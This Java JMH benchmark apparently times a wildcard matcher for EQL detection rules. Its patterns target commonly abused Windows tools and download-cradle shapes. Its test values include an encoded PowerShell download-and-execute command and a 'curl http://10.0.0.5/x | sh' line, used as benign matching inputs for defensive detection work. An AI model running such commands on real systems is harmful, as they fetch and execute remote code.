package io.verdict.bench;

import io.verdict.query.WildcardSet;
import io.verdict.query.Wildcards;
import io.verdict.query.WildcardsReference;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OperationsPerInvocation;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;

/**
 * The wildcard matcher alone, on patterns shaped as the corpus writes them in EQL ({@code :}, case-insensitive,
 * or {@code like}, case-sensitive): a list of process names, path prefixes, suffixes, substrings and a pattern
 * with {@code ?}. {@code impl=reference} runs the matcher as it was before its fast paths
 * ({@link WildcardsReference}, each pattern in turn); {@code current} runs {@link Wildcards} and, for the list,
 * {@link WildcardSet}. {@code values=NON_ASCII} puts a non-ASCII letter into every value, which takes the JDK's
 * path. One operation is one value against every pattern ({@code each}) or against the list ({@code list}).
 * Run: {@code ./mvnw -Pbench test-compile exec:exec -Djmh.args="WildcardBench -f 1 -wi 2 -i 3"}.
 */
@State(Scope.Benchmark)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
public class WildcardBench {

    private static final List<String> NAMES = List.of(
            "cmd.exe",
            "powershell.exe",
            "pwsh.exe",
            "rundll32.exe",
            "regsvr32.exe",
            "mshta.exe",
            "wscript.exe",
            "cscript.exe",
            "certutil.exe",
            "bitsadmin.exe",
            "msiexec.exe",
            "wmic.exe",
            "schtasks.exe",
            "reg.exe",
            "net.exe",
            "net1.exe");
    private static final List<String> SHAPES = List.of(
            "C:\\Windows\\System32\\*",
            "?:\\Program Files\\*",
            "*\\AppData\\Local\\Temp\\*",
            "*.ps1",
            "*.vbs",
            "*-enc*",
            "*http*://*",
            "?:\\Users\\*\\Downloads\\*.exe",
            "*downloadstring*",
            "/tmp/*");
    private static final String[] ASCII = {
        "C:\\Windows\\System32\\cmd.exe",
        "cmd.exe",
        "POWERSHELL.EXE",
        "powershell.exe -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "C:\\Users\\jdoe\\AppData\\Local\\Temp\\stage2.ps1",
        "/usr/bin/curl",
        "explorer.exe",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --no-sandbox",
        "C:\\Users\\jdoe\\Downloads\\invoice.exe",
        "svchost.exe",
        "/bin/bash -c 'curl http://10.0.0.5/x | sh'",
        "RunDll32.exe"
    };

    private static final int VALUES = 12;

    @Param({"current", "reference"})
    public String impl;

    @Param({"true", "false"})
    public boolean caseInsensitive;

    @Param({"ASCII", "NON_ASCII"})
    public String values;

    private String[] texts;
    private Predicate<String>[] each;
    private Predicate<String> list;

    @Setup
    @SuppressWarnings("unchecked")
    public void setUp() {
        texts = values.equals("ASCII")
                ? ASCII.clone()
                : Arrays.stream(ASCII).map(v -> v.replaceFirst("e", "é")).toArray(String[]::new);
        if (texts.length != VALUES) {
            throw new IllegalStateException("OperationsPerInvocation expects " + VALUES + " values");
        }
        List<String> patterns = new ArrayList<>(NAMES);
        patterns.addAll(SHAPES);
        if (impl.equals("current")) {
            List<Wildcards> compiled = patterns.stream()
                    .map(p -> Wildcards.eql(p, caseInsensitive))
                    .toList();
            each = compiled.stream().map(w -> (Predicate<String>) w::matches).toArray(Predicate[]::new);
            WildcardSet set = WildcardSet.of(compiled);
            list = set::matches;
        } else {
            List<WildcardsReference> compiled = patterns.stream()
                    .map(p -> WildcardsReference.eql(p, caseInsensitive))
                    .toList();
            each = compiled.stream().map(w -> (Predicate<String>) w::matches).toArray(Predicate[]::new);
            WildcardsReference[] array = compiled.toArray(WildcardsReference[]::new);
            list = v -> {
                for (WildcardsReference w : array) {
                    if (w.matches(v)) {
                        return true;
                    }
                }
                return false;
            };
        }
    }

    @Benchmark
    @OperationsPerInvocation(VALUES)
    public int each() {
        int matched = 0;
        for (String text : texts) {
            for (Predicate<String> p : each) {
                matched += p.test(text) ? 1 : 0;
            }
        }
        return matched;
    }

    @Benchmark
    @OperationsPerInvocation(VALUES)
    public int list() {
        int matched = 0;
        for (String text : texts) {
            matched += list.test(text) ? 1 : 0;
        }
        return matched;
    }
}
